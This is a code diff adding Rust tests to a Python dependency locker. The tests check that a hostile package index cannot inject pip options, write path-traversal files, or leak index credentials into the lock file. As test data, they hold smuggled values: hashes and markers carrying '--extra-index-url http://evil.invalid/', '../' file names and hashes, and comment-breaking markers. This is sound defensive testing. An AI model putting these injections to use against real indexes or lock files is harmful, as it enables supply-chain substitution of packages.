@@ -470,3 +470,745 @@ fn a_second_lock_needs_no_network_and_no_sandbox() {
     assert_eq!(code, 3, "{stderr}");
     assert!(stderr.contains("offline"), "{stderr}");
 }
+
+// ---------------------------------------------------------------------------------------
+// A hostile index and a hostile uploader: what reaches the lock file and the disk.
+// ---------------------------------------------------------------------------------------
+
+/// Python's `str.splitlines()` boundaries, which pip's requirements parser splits at.
+fn python_splitlines(text: &str) -> Vec<String> {
+    let mut lines = Vec::new();
+    let mut current = String::new();
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\r' => {
+                if chars.peek() == Some(&'\n') {
+                    chars.next();
+                }
+                lines.push(std::mem::take(&mut current));
+            }
+            '\n' | '\u{b}' | '\u{c}' | '\u{1c}' | '\u{1d}' | '\u{1e}' | '\u{85}' | '\u{2028}'
+            | '\u{2029}' => lines.push(std::mem::take(&mut current)),
+            c => current.push(c),
+        }
+    }
+    if !current.is_empty() {
+        lines.push(current);
+    }
+    lines
+}
+
+/// Python's `str.isspace()`, which the `\s` of pip's comment regex follows.
+fn py_space(c: char) -> bool {
+    c.is_whitespace() || ('\u{1c}'..='\u{1f}').contains(&c)
+}
+
+/// `COMMENT_RE.match(line)`: the line is a comment (`(^|\s+)#` at its start).
+fn pip_comment_line(line: &str) -> bool {
+    line.trim_start_matches(py_space).starts_with('#')
+}
+
+/// `COMMENT_RE.sub("", line)`: everything from a `#` at the start or after whitespace.
+fn pip_strip_comment(line: &str) -> &str {
+    let mut previous_space = true;
+    for (i, c) in line.char_indices() {
+        if c == '#' && previous_space {
+            return &line[..i];
+        }
+        previous_space = py_space(c);
+    }
+    line
+}
+
+/// The logical lines pip's `preprocess` yields: `join_lines` (a line ending in `\` is
+/// joined with the next unless it is a comment; `strip("\\")` on joined parts), then
+/// `ignore_comments` (comment removal, `strip()`, empty lines dropped).
+fn pip_logical_lines(text: &str) -> Vec<String> {
+    let mut joined = Vec::new();
+    let mut pending: Vec<String> = Vec::new();
+    for line in python_splitlines(text) {
+        if !line.ends_with('\\') || pip_comment_line(&line) {
+            let line = if pip_comment_line(&line) {
+                format!(" {line}")
+            } else {
+                line
+            };
+            if pending.is_empty() {
+                joined.push(line);
+            } else {
+                pending.push(line);
+                joined.push(pending.concat());
+                pending.clear();
+            }
+        } else {
+            pending.push(line.trim_matches('\\').to_string());
+        }
+    }
+    if !pending.is_empty() {
+        joined.push(pending.concat());
+    }
+    joined
+        .iter()
+        .map(|l| pip_strip_comment(l).trim_matches(py_space).to_string())
+        .filter(|l| !l.is_empty())
+        .collect()
+}
+
+/// pip's `break_args_options`: tokens split on single spaces; the first token starting
+/// with `-` and everything after it are options.
+fn pip_break_args_options(line: &str) -> (String, String) {
+    let tokens: Vec<&str> = line.split(' ').collect();
+    let at = tokens
+        .iter()
+        .position(|t| t.starts_with('-'))
+        .unwrap_or(tokens.len());
+    (tokens[..at].join(" "), tokens[at..].join(" "))
+}
+
+/// One requirement of a lock as pip reads it.
+#[derive(Debug)]
+struct PipLine {
+    name: String,
+    version: String,
+    marker: Option<String>,
+    hashes: Vec<String>,
+}
+
+/// Reads a lock file with pip's rules and checks every logical line is exactly one
+/// `name==version [; marker]` with only `--hash=sha256:<64 lowercase hex>` options.
+fn read_like_pip(text: &str) -> Vec<PipLine> {
+    let mut out = Vec::new();
+    for line in pip_logical_lines(text) {
+        assert!(
+            !line.contains("${"),
+            "pip would expand a variable: {line:?}"
+        );
+        let (args, options) = pip_break_args_options(&line);
+        let tokens =
+            shlex::split(&options).unwrap_or_else(|| panic!("pip cannot split {options:?}"));
+        let mut hashes = Vec::new();
+        for t in tokens {
+            let hex = t
+                .strip_prefix("--hash=sha256:")
+                .unwrap_or_else(|| panic!("option other than --hash on {line:?}: {t:?}"));
+            assert!(
+                hex.len() == 64
+                    && hex
+                        .bytes()
+                        .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)),
+                "not a lowercase sha256: {hex:?} in {line:?}"
+            );
+            hashes.push(hex.to_string());
+        }
+        assert!(!hashes.is_empty(), "a requirement without hashes: {line:?}");
+        let (spec, marker) = match args.split_once(';') {
+            Some((s, m)) => (s.trim(), Some(m.trim().to_string())),
+            None => (args.trim(), None),
+        };
+        let (name, version) = spec
+            .split_once("==")
+            .unwrap_or_else(|| panic!("not name==version: {line:?}"));
+        assert!(
+            name.bytes()
+                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
+            "name not normalized: {line:?}"
+        );
+        let req: sdistill::resolve::Pep508Requirement =
+            args.parse().unwrap_or_else(|e| panic!("{args:?}: {e}"));
+        assert_eq!(req.name.as_ref(), name);
+        out.push(PipLine {
+            name: name.to_string(),
+            version: version.to_string(),
+            marker,
+            hashes,
+        });
+    }
+    out
+}
+
+/// Runs pip's own requirements-file parser (pip's code, not package code) on `lock`:
+/// `None` when this machine has no pip. Returns, per line, pip's requirement and the
+/// options pip set on it.
+fn parse_with_pip(lock: &Path) -> Option<Vec<serde_json::Value>> {
+    const SCRIPT: &str = r#"
+import json, sys
+from pip._internal.req.req_file import RequirementsFileParser, get_line_parser, build_parser
+from pip._internal.req.constructors import parse_req_from_line
+from pip._internal.network.session import PipSession
+defaults = build_parser().get_default_values()
+defaults.index_url = None
+out = []
+for line in RequirementsFileParser(PipSession(), get_line_parser(None))._parse_file(sys.argv[1], False):
+    opts = {k: v for k, v in vars(line.opts).items() if getattr(defaults, k, None) != v}
+    entry = {"is_requirement": line.is_requirement, "opts": opts}
+    if line.is_requirement:
+        parts = parse_req_from_line(line.requirement, None)
+        entry["name"] = parts.requirement.name if parts.requirement else None
+        entry["specifier"] = str(parts.requirement.specifier) if parts.requirement else None
+        entry["marker"] = str(parts.markers) if parts.markers else None
+        entry["link"] = str(parts.link) if parts.link else None
+    out.append(entry)
+print(json.dumps(out, default=str))
+"#;
+    let probe = std::process::Command::new("python3")
+        .args(["-c", "import pip._internal.req.req_file"])
+        .output();
+    if !probe.map(|o| o.status.success()).unwrap_or(false) {
+        eprintln!("skipping pip's own parser: python3 with pip is not available here");
+        return None;
+    }
+    let out = std::process::Command::new("python3")
+        .args(["-c", SCRIPT])
+        .arg(lock)
+        .env("PIP_NO_INDEX", "1")
+        .output()
+        .expect("run python3");
+    assert!(
+        out.status.success(),
+        "pip's parser failed: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    Some(serde_json::from_slice(&out.stdout).expect("pip parser JSON"))
+}
+
+/// Checks pip's own reading of `lock` against ours: one requirement per line, no link,
+/// only `--hash` options.
+fn check_with_pip(lock: &Path, ours: &[PipLine]) {
+    let Some(lines) = parse_with_pip(lock) else {
+        return;
+    };
+    assert_eq!(lines.len(), ours.len(), "pip read {lines:?}");
+    for (pip, our) in lines.iter().zip(ours) {
+        assert_eq!(pip["is_requirement"], true, "{pip}");
+        assert!(
+            pip["link"].is_null(),
+            "pip took a requirement for a file: {pip}"
+        );
+        assert_eq!(pip["name"], our.name.as_str(), "{pip}");
+        assert_eq!(
+            pip["specifier"],
+            format!("=={}", our.version).as_str(),
+            "{pip}"
+        );
+        let opts = pip["opts"].as_object().expect("opts");
+        assert_eq!(
+            opts.keys().collect::<Vec<_>>(),
+            ["hashes"],
+            "pip set other options: {pip}"
+        );
+        let mut hashes: Vec<String> =
+            serde_json::from_value(opts["hashes"]["sha256"].clone()).unwrap();
+        hashes.sort();
+        let mut expected = our.hashes.clone();
+        expected.sort();
+        assert_eq!(hashes, expected, "{pip}");
+        assert_eq!(pip["marker"].is_null(), our.marker.is_none(), "{pip}");
+    }
+}
+
+/// A cache directory inside a canary directory: whatever is written outside the cache
+/// lands next to it. The canary's name has no `-`, so an absolute file name into it still
+/// splits like a wheel name.
+#[cfg(unix)]
+fn caged_cache() -> (tempfile::TempDir, std::path::PathBuf, String) {
+    let canary = tempfile::Builder::new().prefix("canary").tempdir().unwrap();
+    let cache = canary.path().join("cache");
+    std::fs::create_dir(&cache).unwrap();
+    let runtime = share_modules_into(&cache);
+    (canary, cache, runtime)
+}
+
+fn assert_only_the_cache_in(canary: &Path) {
+    let names: Vec<String> = std::fs::read_dir(canary)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(names, ["cache"], "written outside the cache: {names:?}");
+}
+
+/// Runs `lock` against `url` with `cache`; returns (exit code, stdout, stderr).
+fn lock_at(url: &str, cache: &Path, runtime: &str, args: &[&str]) -> (i32, String, String) {
+    let mut all = vec!["lock", "--index-url", url, "--runtime", runtime];
+    all.extend_from_slice(args);
+    let out = run_env(
+        &all,
+        &[
+            ("SDISTILL_CACHE_DIR", cache.as_os_str()),
+            ("SDISTILL_NO_CACHE", std::ffi::OsStr::new("0")),
+        ],
+    );
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+fn json_file(filename: &str, url: &str, sha256: &str, metadata: Option<&str>) -> serde_json::Value {
+    let mut f = serde_json::json!({
+        "filename": filename,
+        "url": url,
+        "hashes": {"sha256": sha256},
+    });
+    if let Some(m) = metadata {
+        f["core-metadata"] = serde_json::json!({ "sha256": m });
+    }
+    f
+}
+
+fn json_page(project: &str, files: Vec<serde_json::Value>) -> RawPage {
+    RawPage {
+        path: format!("/simple/{project}/"),
+        content_type: "application/vnd.pypi.simple.v1+json",
+        body: serde_json::to_vec(&serde_json::json!({
+            "meta": {"api-version": "1.1"},
+            "name": project,
+            "files": files,
+        }))
+        .unwrap(),
+    }
+}
+
+fn html_page(project: &str, anchors: &[String]) -> RawPage {
+    RawPage {
+        path: format!("/simple/{project}/"),
+        content_type: "text/html",
+        body: format!("<html><body>\n{}\n</body></html>\n", anchors.join("\n")).into_bytes(),
+    }
+}
+
+/// A file only reachable by URL (no page lists it through [`IndexEntry`]).
+fn served(filename: &str, bytes: Vec<u8>) -> IndexEntry {
+    entry("-unlisted-", filename, bytes)
+}
+
+fn sha(bytes: &[u8]) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(bytes))
+}
+
+/// Every value an index states is untrusted: hashes with newlines and pip options, hashes
+/// in capitals or of the wrong length, `../` hashes, absolute and `../` file names, files
+/// of another project, a URL naming another file, a metadata hash with options. The
+/// hostile files are refused (and reported), the honest ones lock, the lock reads back
+/// under pip's rules (and pip's own parser) as exactly the resolved pins, and nothing is
+/// written outside the cache.
+#[cfg(unix)]
+#[test]
+fn a_hostile_index_cannot_write_into_the_lock_or_outside_the_cache() {
+    let (canary, cache, runtime) = caged_cache();
+    let canary_path = canary.path().display().to_string();
+    let evil_hash = "e".repeat(64);
+    let injection = format!(
+        "\n--extra-index-url http://evil.invalid/simple/\nevil==6.6 --hash=sha256:{evil_hash}"
+    );
+
+    let app_meta = metadata(
+        "app",
+        "1.0",
+        &["dep", "plat; python_version >= \"3.8\""],
+        "",
+    );
+    let app_whl = wheel_bytes("app", "1.0", "", &["dep"]);
+    let app_whl2 = wheel_bytes("app", "1.0", "# py2.py3", &["dep"]);
+    let app2 = static_sdist("app", "2.0", &["evil"], "");
+    let evil_whl = wheel_bytes("evil", "9.0", "", &[]);
+    let dep_meta = metadata("dep", "1.0", &[], "");
+    let dep_whl = wheel_bytes("dep", "1.0", "", &[]);
+    let f = |name: &str| format!("/files/{name}");
+
+    let app_page = json_page(
+        "app",
+        vec![
+            json_file(
+                "app-1.0-py3-none-any.whl",
+                &f("app-1.0-py3-none-any.whl"),
+                &sha(&app_whl),
+                Some(&sha(app_meta.as_bytes())),
+            ),
+            // Capitals are a valid digest; the lock writes it lowercase.
+            json_file(
+                "app-1.0-py2.py3-none-any.whl",
+                &f("app-1.0-py2.py3-none-any.whl"),
+                &sha(&app_whl2).to_uppercase(),
+                None,
+            ),
+            json_file(
+                "app-1.0.tar.gz",
+                &f("app-1.0.tar.gz"),
+                &format!("{}{injection}", sha(&app2)),
+                None,
+            ),
+            json_file("app-1.0.zip", &f("app-1.0.zip"), &"a".repeat(63), None),
+            json_file("app-1.1.zip", &f("app-1.1.zip"), &"a".repeat(65), None),
+            // Newer, so it would be chosen: its hash would be a cache directory.
+            json_file(
+                "app-2.0.tar.gz",
+                &f("app-2.0.tar.gz"),
+                "../../escaped",
+                None,
+            ),
+            json_file(
+                &format!("{canary_path}/app-3.0.tar.gz"),
+                &f("app-3.0.tar.gz"),
+                &sha(&app2),
+                None,
+            ),
+            json_file(
+                "../app-3.1-py3-none-any.whl",
+                &f("app-3.1-py3-none-any.whl"),
+                &sha(&app_whl),
+                None,
+            ),
+            json_file(
+                "evil-9.0-py3-none-any.whl",
+                &f("evil-9.0-py3-none-any.whl"),
+                &sha(&evil_whl),
+                None,
+            ),
+            json_file(
+                "app-4.0-py3-none-any.whl",
+                &f("evil-9.0-py3-none-any.whl"),
+                &sha(&evil_whl),
+                None,
+            ),
+            json_file(
+                "app-5.0-py3-none-any.whl",
+                &f("app-5.0-py3-none-any.whl"),
+                &sha(&app_whl),
+                Some(&format!("zz{injection}")),
+            ),
+        ],
+    );
+    let dep_page = html_page(
+        "dep",
+        &[
+            format!(
+                "<a href=\"/files/dep-1.0-py3-none-any.whl#sha256={}\" data-core-metadata=\"sha256={}\">dep-1.0-py3-none-any.whl</a>",
+                sha(&dep_whl).to_uppercase(),
+                sha(dep_meta.as_bytes())
+            ),
+            format!(
+                "<a href=\"/files/dep-2.0.tar.gz#sha256={}%0A--extra-index-url%20http://evil.invalid/\">dep-2.0.tar.gz</a>",
+                sha(&app2)
+            ),
+            format!(
+                "<a href=\"/files/dep-3.0-py3-none-any.whl#sha256={}\" data-core-metadata=\"sha256=ab{injection}\">dep-3.0-py3-none-any.whl</a>",
+                sha(&dep_whl)
+            ),
+            format!("<a href=\"/files/dep-4.0.tar.gz#sha256={}\">../../dep-4.0.tar.gz</a>", sha(&app2)),
+            "<a href=\"/files/dep-5.0.tar.gz#sha256=../../escaped\">dep-5.0.tar.gz</a>".to_string(),
+        ],
+    );
+    let mut entries = vec![
+        served("app-1.0-py3-none-any.whl", app_whl.clone()),
+        served("app-1.0-py2.py3-none-any.whl", app_whl2.clone()),
+        served("app-1.0.tar.gz", app2.clone()),
+        served("app-2.0.tar.gz", app2.clone()),
+        served("app-3.0.tar.gz", app2.clone()),
+        served("app-3.1-py3-none-any.whl", app_whl.clone()),
+        served("app-5.0-py3-none-any.whl", app_whl.clone()),
+        served("evil-9.0-py3-none-any.whl", evil_whl),
+        served("dep-1.0-py3-none-any.whl", dep_whl.clone()),
+        served("dep-2.0.tar.gz", app2.clone()),
+        served("dep-3.0-py3-none-any.whl", dep_whl.clone()),
+        served("dep-4.0.tar.gz", app2.clone()),
+        wheel_with_metadata("plat", "1.0", &[], ""),
+    ];
+    entries[0].metadata = Some(app_meta);
+    entries[8].metadata = Some(dep_meta);
+    let server = IndexServer::start_with(entries, vec![app_page, dep_page]);
+
+    let out_dir = tempfile::tempdir().unwrap();
+    let lock_path = out_dir.path().join("requirements.txt");
+    let (code, stdout, stderr) = lock_at(
+        &server.url,
+        &cache,
+        &runtime,
+        &["app", "-o", lock_path.to_str().unwrap()],
+    );
+    assert_eq!(code, 0, "{stderr}\n{stdout}");
+    let text = std::fs::read_to_string(&lock_path).unwrap();
+    for needle in ["evil", "extra-index-url", "escaped", &evil_hash] {
+        assert!(
+            !text.contains(needle),
+            "`{needle}` reached the lock:\n{text}"
+        );
+    }
+
+    // The lock says exactly what was resolved, read the way pip reads it.
+    let lines = read_like_pip(&text);
+    let pins: BTreeMap<&str, &PipLine> = lines.iter().map(|l| (l.name.as_str(), l)).collect();
+    assert_eq!(
+        pins.keys().copied().collect::<Vec<_>>(),
+        ["app", "dep", "plat"],
+        "{text}"
+    );
+    assert_eq!(pins["app"].version, "1.0");
+    let mut app_hashes = vec![sha(&app_whl), sha(&app_whl2)];
+    app_hashes.sort();
+    assert_eq!(pins["app"].hashes, app_hashes);
+    assert_eq!(pins["dep"].version, "1.0");
+    assert_eq!(pins["dep"].hashes, [sha(&dep_whl)]);
+    assert_eq!(
+        pins["plat"].marker.as_deref(),
+        Some("python_full_version >= '3.8'")
+    );
+    check_with_pip(&lock_path, &lines);
+
+    // Every refusal is reported, each on its own line.
+    let refused = stderr
+        .lines()
+        .filter(|l| l.contains("refused the index's file"))
+        .count();
+    assert_eq!(refused, 13, "refusals reported:\n{stderr}");
+    assert!(
+        !stderr
+            .lines()
+            .any(|l| l.starts_with("--") || l.starts_with("evil")),
+        "{stderr}"
+    );
+
+    // Nothing outside the cache; no cache entry named by the index's hostile values.
+    assert_only_the_cache_in(canary.path());
+    let files: Vec<String> = std::fs::read_dir(cache.join("files"))
+        .map(|d| {
+            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+                .collect()
+        })
+        .unwrap_or_default();
+    assert!(
+        files
+            .iter()
+            .all(|f| f.len() == 64 && f.bytes().all(|b| b.is_ascii_hexdigit())),
+        "{files:?}"
+    );
+    let pages = std::fs::read_dir(cache.join("index-pages"))
+        .unwrap()
+        .count();
+    assert!(pages >= 2);
+
+    // Offline, the cached pages go through the same validation.
+    let url = server.url.clone();
+    drop(server);
+    let (code, stdout2, stderr2) = lock_at(&url, &cache, &runtime, &["app", "--offline"]);
+    assert_eq!(code, 0, "{stderr2}");
+    assert!(
+        !stdout2.contains("evil") && stderr2.contains("refused the index's file"),
+        "{stderr2}"
+    );
+}
+
+/// The build requirements of an sdist come from the same index: an absolute file name, a
+/// `../` file name or a `../` hash there once created the wheel and its unpacked tree
+/// outside the cache. Now they are refused, the honest wheel is used, and nothing is
+/// written outside the cache.
+#[cfg(unix)]
+#[test]
+fn hostile_build_requirement_files_stay_out_of_the_disk() {
+    let (canary, cache, runtime) = caged_cache();
+    let canary_path = canary.path().display().to_string();
+    let top = "built-1.0";
+    let built = compress(
+        Kind::TarGz,
+        &tar_bytes(&[
+            file(
+                &format!("{top}/PKG-INFO"),
+                "Metadata-Version: 1.0\nName: built\nVersion: 1.0\n",
+            ),
+            file(
+                &format!("{top}/pyproject.toml"),
+                "[build-system]\nrequires = [\"setuptools\", \"bdep\"]\n",
+            ),
+            file(
+                &format!("{top}/setup.py"),
+                "from setuptools import setup\nsetup(name='built', version='1.0', install_requires=['hel' + 'per'])\n",
+            ),
+        ]),
+    );
+    let bdep = wheel_bytes("bdep", "1.0", "", &[]);
+    let bdep9 = wheel_bytes("bdep", "9.0", "", &[]);
+    let helper = wheel_bytes("helper", "1.0", "", &[]);
+    let anchor = |href: &str, hash: &str, text: &str| {
+        format!("<a href=\"/files/{href}#sha256={hash}\">{text}</a>")
+    };
+    let bdep_page = html_page(
+        "bdep",
+        &[
+            anchor(
+                "bdep-1.0-py3-none-any.whl",
+                &sha(&bdep),
+                "bdep-1.0-py3-none-any.whl",
+            ),
+            anchor(
+                "bdep-9.0-py3-none-any.whl",
+                &sha(&bdep9),
+                &format!("{canary_path}/bdep-9.0-py3-none-any.whl"),
+            ),
+            anchor(
+                "bdep-8.0-py3-none-any.whl",
+                &sha(&bdep9),
+                "../bdep-8.0-py3-none-any.whl",
+            ),
+            anchor(
+                "bdep-7.0-py3-none-any.whl",
+                "../../x",
+                "bdep-7.0-py3-none-any.whl",
+            ),
+        ],
+    );
+    let server = IndexServer::start_with(
+        vec![
+            entry("built", "built-1.0.tar.gz", built),
+            entry("helper", "helper-1.0-py3-none-any.whl", helper),
+            served("bdep-1.0-py3-none-any.whl", bdep.clone()),
+            served("bdep-9.0-py3-none-any.whl", bdep9.clone()),
+            served("bdep-8.0-py3-none-any.whl", bdep9.clone()),
+            served("bdep-7.0-py3-none-any.whl", bdep9),
+        ],
+        vec![bdep_page],
+    );
+    let (code, stdout, stderr) = lock_at(&server.url, &cache, &runtime, &["built"]);
+    assert_eq!(code, 0, "{stderr}\n{stdout}");
+    let pins = Pins::parse(&stdout);
+    assert_eq!(pins.version("built"), "1.0");
+    assert_eq!(pins.version("helper"), "1.0");
+    assert!(
+        stderr.contains("build requirement bdep: refused"),
+        "{stderr}"
+    );
+
+    assert_only_the_cache_in(canary.path());
+    let listing = |dir: &str| -> Vec<String> {
+        std::fs::read_dir(cache.join(dir))
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .filter(|n| !n.starts_with('.'))
+            .collect()
+    };
+    assert_eq!(listing("wheels"), ["bdep-1.0-py3-none-any.whl"]);
+    assert_eq!(listing("build-deps"), ["bdep-1.0-py3-none-any"]);
+    assert!(!cache.join("bdep-8.0-py3-none-any.whl").exists());
+}
+
+/// A marker from a package's metadata that pip would read otherwise (` #` starts a
+/// comment and drops the hashes after it; ` -` starts options; a quote pep508_rs cannot
+/// render) refuses the lock, naming the package, and no lock file is written.
+#[test]
+fn a_marker_pip_would_misread_refuses_the_lock() {
+    let cases = [
+        ("mk-comment", "platform_release != 'x #y'", "`#`"),
+        (
+            "mk-option",
+            "platform_release != 'x -i http://evil.invalid/'",
+            "` -`",
+        ),
+        (
+            "mk-quote",
+            "platform_release != \"x' or '1' == '1\"",
+            "read back",
+        ),
+    ];
+    let mut entries = vec![wheel_with_metadata("dep", "1.0", &[], "")];
+    for (project, marker, _) in cases {
+        entries.push(wheel_with_metadata(
+            project,
+            "1.0",
+            &[&format!("dep; {marker}")],
+            "",
+        ));
+    }
+    let server = IndexServer::start(entries);
+    let (_cache_dir, runtime) = private_cache();
+    let out_dir = tempfile::tempdir().unwrap();
+    for (project, _, why) in cases {
+        let out = out_dir.path().join(format!("{project}.txt"));
+        let (code, stdout, stderr) = lock_at(
+            &server.url,
+            _cache_dir.path(),
+            &runtime,
+            &[project, "-o", out.to_str().unwrap()],
+        );
+        assert_eq!(code, 1, "{project}: {stderr}\n{stdout}");
+        assert!(
+            stderr.contains("refusing to write dep 1.0 into the lock"),
+            "{project}: {stderr}"
+        );
+        assert!(stderr.contains(why), "{project}: {stderr}");
+        assert!(!out.exists(), "{project}: a lock was written");
+    }
+}
+
+/// Credentials in `--index-url` never reach the lock, stdout or stderr (pip's redaction:
+/// `user:****@`); the header's command line is shell-quoted; `-o` through a symlink
+/// writes its target with a normal file mode.
+#[cfg(unix)]
+#[test]
+fn credentials_are_redacted_and_the_output_behaves_like_a_file() {
+    use std::os::unix::fs::{symlink, PermissionsExt};
+    let l = Locker::new();
+    let secret = "s3cret-index-token";
+    let with_auth = l
+        .url
+        .replacen("http://", &format!("http://__token__:{secret}@"), 1);
+    let tmp = tempfile::tempdir().unwrap();
+    let target = tmp.path().join("real.txt");
+    let link = tmp.path().join("requirements.txt");
+    symlink("real.txt", &link).unwrap();
+    let index_arg = format!("--extra-index-url={with_auth}");
+    let (code, stdout, stderr) = lock_at(
+        &with_auth,
+        l.cache.path(),
+        &l.runtime,
+        &[
+            &index_arg,
+            "util; python_version >= '3.10'",
+            "-o",
+            link.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(code, 0, "{stderr}");
+    let text = std::fs::read_to_string(&target).unwrap();
+    for shown in [&text, &stdout, &stderr] {
+        assert!(!shown.contains(secret), "token leaked: {shown}");
+    }
+    let command = text
+        .lines()
+        .find_map(|l| l.strip_prefix("#    "))
+        .expect("header command");
+    let words = shlex::split(command).expect("the header command is shell words");
+    let redacted = with_auth.replace(secret, "****");
+    assert!(words.contains(&redacted), "{words:?}");
+    assert!(
+        words.contains(&format!("--extra-index-url={redacted}")),
+        "{words:?}"
+    );
+    assert!(
+        words.contains(&"util; python_version >= '3.10'".to_string()),
+        "{words:?}"
+    );
+    assert!(std::fs::symlink_metadata(&link)
+        .unwrap()
+        .file_type()
+        .is_symlink());
+    let plain = tmp.path().join("plain");
+    std::fs::File::create(&plain).unwrap();
+    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&target), mode(&plain));
+    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o640)).unwrap();
+    let (code, _, stderr) = lock_at(
+        &with_auth,
+        l.cache.path(),
+        &l.runtime,
+        &["util", "-o", link.to_str().unwrap()],
+    );
+    assert_eq!(code, 0, "{stderr}");
+    assert_eq!(mode(&target), 0o640);
+
+    // Error messages name URLs without the token too.
+    let (code, _, stderr) = lock_at(&with_auth, l.cache.path(), &l.runtime, &["liar"]);
+    assert_eq!(code, 3, "{stderr}");
+    assert!(stderr.contains("__token__:****@"), "{stderr}");
+    assert!(!stderr.contains(secret), "{stderr}");
+}
